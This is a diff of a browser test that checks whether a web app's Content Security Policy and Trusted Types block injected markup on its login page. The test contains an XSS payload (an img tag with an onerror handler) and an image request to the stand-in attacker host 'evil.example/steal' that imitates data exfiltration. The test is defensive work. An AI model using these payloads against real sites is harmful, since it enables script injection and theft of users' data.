@@ -5,32 +5,29 @@ import { becomeClient, expect, type Surroundings, test } from './kantor.ts'
 const serverLog = (service: Surroundings) => readFileSync(join(service.kantor.dataDirectory, 'server.log'), 'utf8')
 
 test.describe('a page that somebody got markup into', () => {
-  test.use({ expectedProblem: /Content Security Policy|TrustedHTML/ })
+  test.use({ expectedProblem: /Content Security Policy|TrustedScript|TrustedHTML/ })
 
-  test('runs none of it, and the operator hears of it', async ({ page, service }) => {
-    const token = 'a-mailed-token-that-nobody-may-read-in-a-log'
-    await page.goto(`/app/set-new-password/${token}`)
-    await expect(page.getByLabel('New password')).toBeVisible()
-    const ran = await page.evaluate(async () => {
-      const script = document.createElement('script')
+  // What the browser then reports, it collects for up to a minute: taking it in is tested at the server.
+  test('runs none of it and loads none of it', async ({ page }) => {
+    await page.goto('/app/login')
+    await expect(page.getByLabel('Email')).toBeVisible()
+    const { stolen, refused, blocked } = await page.evaluate(async () => {
       let refused = ''
       try {
-        script.textContent = 'window.stolen = true'
-        document.body.append(script)
         document.body.insertAdjacentHTML('beforeend', '<img src="x" onerror="window.stolen = true">')
       } catch (error) {
         refused = String(error)
       }
+      const violation = new Promise<SecurityPolicyViolationEvent>((resolve) => {
+        document.addEventListener('securitypolicyviolation', resolve, { once: true })
+      })
       document.body.append(Object.assign(document.createElement('img'), { src: 'https://evil.example/steal?what=everything' }))
-      await new Promise((resolve) => setTimeout(resolve))
-      return { stolen: 'stolen' in window, refused }
+      const { effectiveDirective, blockedURI } = await violation
+      return { stolen: 'stolen' in window, refused, blocked: `${effectiveDirective} ${blockedURI}` }
     })
-    expect(ran.stolen).toBe(false)
-    expect(ran.refused).toMatch(/TrustedScript|TrustedHTML/)
-
-    await expect.poll(() => serverLog(service), { timeout: 30_000 }).toContain('"blocked":"https://evil.example"')
-    expect(serverLog(service)).toContain('"page":"/app/set-new-password/***"')
-    expect(serverLog(service)).not.toMatch(/a-mailed-token|what=everything/)
+    expect(stolen).toBe(false)
+    expect(refused).toContain('TrustedHTML')
+    expect(blocked).toMatch(/^img-src https:\/\/evil\.example/)
   })
 })
 
